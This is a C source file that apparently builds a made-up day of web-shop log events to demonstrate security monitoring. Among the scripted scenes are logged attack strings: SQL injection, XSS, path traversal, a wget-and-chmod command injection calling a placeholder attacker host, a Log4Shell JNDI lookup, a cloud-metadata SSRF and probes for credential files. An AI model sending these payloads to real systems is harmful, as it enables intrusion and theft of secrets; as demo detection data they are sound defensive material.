/* SPDX-License-Identifier: Apache-2.0 */
/* The made-up day: who works when, and the scenes that happen. */
#include "app/demo_data.h"

#include <stdio.h>
#include <stdlib.h>

#include "app/saying.h"
#include "base/clock.h"
#include "base/mem.h"
#include "base/vec.h"

#define STEPS 288 /* of five minutes */
#define STEP 300
#define DAY_S 86400

struct event {
	int64_t time; /* s since the day began */
	size_t at, n;
};

struct demo_data {
	VEC(struct event) events;
	struct buf text;
	int64_t begin; /* ns */
	uint64_t dice;
};

static uint64_t
roll(struct demo_data *d, uint64_t n)
{
	uint64_t z = d->dice += 0x9e3779b97f4a7c15;

	z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9;
	z = (z ^ z >> 27) * 0x94d049bb133111eb;
	return (z ^ z >> 31) % n;
}

static void
say(struct demo_data *d, int64_t at, const struct saying *s)
{
	struct saying full = *s;
	struct event *e;

	if (at < 0 || at >= DAY_S)
		return;
	e = VEC_ADD(&d->events);
	e->time = at;
	e->at = d->text.n;
	full.host = s->host != NULL ? s->host : "shop-1";
	full.app = s->app != NULL ? s->app : "shop";
	saying_json(&full, d->begin + at * CLOCK_S, &d->text);
	e->n = d->text.n - e->at;
}

static const struct {
	const char *name, *ip, *country;
} people[] = {
	{ "ana.demo", "192.0.2.10", "NL" },
	{ "bo.demo", "192.0.2.11", "NL" },
	{ "chloe.demo", "192.0.2.24", "FR" },
	{ "dario.demo", "192.0.2.31", "IT" },
	{ "elif.demo", "192.0.2.47", "TR" },
	{ "finn.demo", "192.0.2.52", "DE" },
	{ "grace.demo", "192.0.2.66", "GB" },
	{ "hana.demo", "192.0.2.78", "JP" },
	{ "ines.demo", "192.0.2.83", "ES" },
	{ "jonas.demo", "192.0.2.91", "SE" },
	{ "kofi.demo", "192.0.2.104", "GH" },
	{ "lea.demo", "192.0.2.117", "CH" },
};

/* Paths of the shop, and how often of 100 they are asked for. */
static const struct {
	const char *path, *method;
	unsigned often;
	bool by_number; /* of one thing: its number follows */
} pages[] = {
	{ "/", "GET", 14, false },
	{ "/products", "GET", 20, false },
	{ "/api/products", "GET", 18, true },
	{ "/api/cart", "POST", 12, false },
	{ "/api/orders", "POST", 6, false },
	{ "/api/orders", "GET", 9, true },
	{ "/api/search", "GET", 9, false },
	{ "/api/profile", "GET", 5, false },
	{ "/api/payments", "POST", 4, false },
	{ "/admin/reports", "GET", 3, false },
};

/* Requests in five minutes at this hour, of a day that is busiest after noon. */
static const unsigned char busy[24] = { 3, 2, 2, 2, 2, 3, 5, 8, 11, 13, 14, 15, 16, 17, 17, 16, 15,
	14, 13, 12, 11, 9, 6, 4 };

static unsigned
hour_of_day(const struct demo_data *d, int64_t at)
{
	return (unsigned)((d->begin / CLOCK_S + at) / 3600 % 24);
}

static void
visit(struct demo_data *d, int64_t at)
{
	unsigned who = (unsigned)roll(d, ARRAY_LEN(people)), left = (unsigned)roll(d, 100), k = 0;
	struct saying s = {
		.type = "http.request", .ip = people[who].ip, .country = people[who].country
	};
	char path[64];
	uint64_t luck = roll(d, 1000);

	while (left >= pages[k].often)
		left -= pages[k++].often;
	(void)snprintf(path, sizeof(path), "%s", pages[k].path);
	if (pages[k].by_number)
		(void)snprintf(path, sizeof(path), "%s/%u", pages[k].path,
		    1000 + (unsigned)roll(d, 9000));
	s.path = path;
	s.method = pages[k].method;
	s.status = luck < 12 ? 404 : luck < 17 ? 500 : strcmp(s.method, "POST") == 0 ? 201 : 200;
	s.ms = 4 + (int)roll(d, 90) + (luck < 17 ? 400 : 0);
	say(d, at, &s);
}

static void
login(struct demo_data *d, int64_t at, const char *ip, const char *country, const char *user,
    bool good)
{
	say(d, at,
	    &(struct saying){ .type = good ? "auth.login.success" : "auth.login.failed",
		.ip = ip,
		.country = country,
		.user = user,
		.reason = good ? NULL : "invalid_password" });
}

/* People who log in, of whom one in twelve mistypes the password first. */
static void
ordinary_day(struct demo_data *d)
{
	for (int64_t step = 0; step < STEPS; step++) {
		int64_t at = step * STEP;
		unsigned n = busy[hour_of_day(d, at)];

		for (unsigned i = 0; i < n; i++)
			visit(d, at + (int64_t)roll(d, STEP));
		for (unsigned i = 0; i < (n + 4) / 6; i++) {
			unsigned who = (unsigned)roll(d, ARRAY_LEN(people));
			int64_t when = at + 20 + (int64_t)roll(d, STEP - 20);

			if (roll(d, 12) == 0)
				login(d, when - 15, people[who].ip, people[who].country,
				    people[who].name, false);
			login(d, when, people[who].ip, people[who].country, people[who].name, true);
		}
	}
}

/* Somebody knocks from everywhere, too seldom for any rule. */
static void
background_noise(struct demo_data *d)
{
	static const struct {
		const char country[3];
		unsigned tries;
	} from[] = { { "US", 38 }, { "BR", 33 }, { "IN", 29 }, { "VN", 24 }, { "ID", 21 },
		{ "DE", 18 }, { "FR", 15 }, { "KR", 14 }, { "MX", 12 }, { "ZA", 10 }, { "AR", 9 },
		{ "TH", 8 }, { "PL", 7 }, { "CA", 6 }, { "EG", 5 }, { "AU", 4 }, { "KE", 3 },
		{ "CL", 3 }, { "SG", 2 }, { "NZ", 1 } };
	static const char *const names[] = { "root", "admin", "test", "oracle", "backup", "git" };

	for (unsigned i = 0; i < ARRAY_LEN(from); i++) {
		for (unsigned k = 0; k < from[i].tries; k++) {
			char ip[24], name[24];

			(void)snprintf(ip, sizeof(ip), "198.51.100.%u", i * 12 + k % 12);
			(void)snprintf(name, sizeof(name), "%s%u", names[roll(d, ARRAY_LEN(names))],
			    (unsigned)roll(d, 400));
			login(d, (int64_t)roll(d, DAY_S), ip, from[i].country, name, false);
		}
	}
}

enum kind { BRUTE, SPRAY, REQUEST, PROBES, MISSING, FAULTS, EVENT };

/* What happens beside that.  `minute` of the day; `n` events, `gap` seconds from one to the next.
 */
static const struct scene {
	unsigned minute, n, gap;
	enum kind kind;
	struct saying say;
} scenes[] = {
	{ 95, 34, 20, BRUTE, { .ip = "203.0.113.7", .country = "VN", .user = "root" } },
	{ 120, 3, 40, EVENT,
	    { .type = "api.deprecated", .path = "/api/v1/cart", .method = "GET", .status = 200 } },
	{ 150, 1, 1, EVENT,
	    { .type = "startup.validation.failed",
		.host = "shop-2",
		.message = "JWT secret is shorter than 32 bytes" } },
	{ 210, 9, 14, REQUEST,
	    { .ip = "203.0.113.41",
		.country = "US",
		.path = "/products",
		.query = "id=1%20UNION%20ALL%20SELECT%20name,password%20FROM%20users",
		.agent = "sqlmap/1.8.4#stable (https://sqlmap.org)",
		.status = 400 } },
	{ 305, 14, 25, EVENT,
	    { .type = "rate_limit.exceeded",
		.ip = "203.0.113.58",
		.country = "SG",
		.path = "/api/search",
		.status = 429 } },
	{ 390, 14, 40, SPRAY, { .ip = "203.0.113.63", .country = "BR" } },
	{ 450, 12, 9, PROBES, { .ip = "203.0.113.77", .country = "ID" } },
	{ 520, 8, 50, EVENT,
	    { .type = "csrf.validation.failed",
		.ip = "203.0.113.80",
		.country = "PL",
		.path = "/api/orders",
		.method = "POST",
		.status = 403 } },
	{ 560, 2, 30, EVENT,
	    { .type = "authz.denied",
		.ip = "203.0.113.84",
		.country = "SE",
		.user = "finn.demo",
		.path = "/admin/users",
		.method = "GET",
		.status = 403 } },
	{ 585, 1, 1, EVENT,
	    { .type = "auth.sudo.failed",
		.host = "shop-2",
		.app = "sudo",
		.user = "kofi.demo",
		.reason = "user NOT in sudoers",
		.message = "kofi.demo : user NOT in sudoers ; COMMAND=/bin/sh" } },
	{ 640, 5, 30, REQUEST,
	    { .ip = "203.0.113.91",
		.country = "DE",
		.path = "/api/search",
		.query = "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
		.status = 400 } },
	{ 700, 30, 8, FAULTS, { .ip = "192.0.2.66", .country = "GB", .path = "/api/payments" } },
	{ 735, 1, 1, EVENT,
	    { .type = "dependency.vulnerability",
		.host = "shop-1",
		.message = "a regular expression of a parser can be made slow" } },
	{ 765, 26, 6, MISSING, { .ip = "203.0.113.77", .country = "ID" } },
	{ 830, 4, 70, REQUEST,
	    { .ip = "2001:db8:41::9",
		.country = "FR",
		.path = "/download",
		.query = "file=../../../../etc/passwd",
		.status = 404 } },
	{ 905, 1, 1, EVENT,
	    { .type = "auth.impossible_travel",
		.ip = "203.0.113.120",
		.country = "JP",
		.user = "ines.demo",
		.message = "Madrid and Tokyo within 40 minutes" } },
	{ 960, 62, 7, SPRAY, { .ip = "203.0.113.136", .country = "KR" } },
	{ 1030, 1, 1, EVENT,
	    { .type = "auth.account.locked",
		.ip = "203.0.113.136",
		.country = "KR",
		.user = "finn.demo" } },
	{ 1100, 3, 45, REQUEST,
	    { .ip = "203.0.113.150",
		.country = "US",
		.path = "/api/search",
		.query = "q=;wget+http://203.0.113.150/x;chmod+755+x",
		.status = 403 } },
	{ 1180, 2, 5, REQUEST,
	    { .ip = "2001:db8:77::3",
		.country = "ZA",
		.path = "/",
		.agent = "${jndi:ldap://203.0.113.151/a}",
		.status = 200 } },
	{ 1245, 16, 12, BRUTE, { .ip = "203.0.113.163", .country = "MX", .user = "admin" } },
	{ 1310, 1, 1, EVENT,
	    { .type = "auth.token.tampering",
		.ip = "203.0.113.171",
		.country = "IN",
		.user = "lea.demo",
		.path = "/api/profile",
		.status = 401 } },
	{ 1365, 6, 20, EVENT,
	    { .type = "attack.ssrf",
		.ip = "203.0.113.180",
		.country = "AR",
		.path = "/api/preview",
		.query = "url=http://169.254.169.254/latest/meta-data/",
		.status = 403 } },
	{ 1415, 18, 11, BRUTE, { .ip = "203.0.113.199", .country = "EG", .user = "grace.demo" } },
};

static const char *const probes[] = { "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/",
	"/backup.sql", "/.aws/credentials", "/actuator/env", "/xmlrpc.php", "/admin.php",
	"/cgi-bin/test", "/.ssh/id_rsa", "/server-status" };

static void
play_one(struct demo_data *d, const struct scene *scene, unsigned i, int64_t at)
{
	struct saying s = scene->say;
	char text[64];

	s.ms = s.path != NULL ? 12 + (int)(i % 7) : 0;
	switch (scene->kind) {
	case BRUTE:
		login(d, at, s.ip, s.country, s.user, false);
		return;
	case SPRAY:
		(void)snprintf(text, sizeof(text), "user%02u.demo", i);
		login(d, at, s.ip, s.country, text, false);
		return;
	case PROBES:
		s.path = probes[i % ARRAY_LEN(probes)];
		s.status = 404;
		break;
	case MISSING:
		(void)snprintf(text, sizeof(text), "/old/page-%u.html", i);
		s.path = text;
		s.status = 404;
		break;
	case FAULTS:
		s.method = "POST";
		s.status = 502;
		s.ms = 3000;
		break;
	case REQUEST:
	case EVENT:
		break;
	}
	if (s.type == NULL)
		s.type = "http.request";
	say(d, at, &s);
}

static int
earlier(const void *pa, const void *pb)
{
	const struct event *a = pa, *b = pb;

	if (a->time != b->time)
		return a->time < b->time ? -1 : 1;
	return a->at < b->at ? -1 : a->at > b->at;
}

struct demo_data *
demo_data_new(int64_t end)
{
	struct demo_data *d = MEM_NEW(struct demo_data);

	/* Steps begin where the page's do, or a quiet one of these could leave one of those empty.
	 */
	d->begin = (end / (STEP * CLOCK_S)) * (STEP * CLOCK_S) - DAY_S * CLOCK_S;
	d->dice = 20261121;
	buf_init(&d->text, 0);
	ordinary_day(d);
	background_noise(d);
	for (size_t i = 0; i < ARRAY_LEN(scenes); i++)
		for (unsigned k = 0; k < scenes[i].n; k++)
			play_one(d, &scenes[i], k,
			    (int64_t)scenes[i].minute * 60 + (int64_t)k * scenes[i].gap);
	qsort(d->events.p, d->events.n, sizeof(d->events.p[0]), earlier);
	return d;
}

void
demo_data_free(struct demo_data *d)
{
	if (d == NULL)
		return;
	VEC_FINI(&d->events);
	buf_fini(&d->text);
	free(d);
}

size_t
demo_data_len(const struct demo_data *d)
{
	return d->events.n;
}

struct str
demo_data_at(const struct demo_data *d, size_t i)
{
	return (struct str){ d->text.p + d->events.p[i].at, d->events.p[i].n };
}
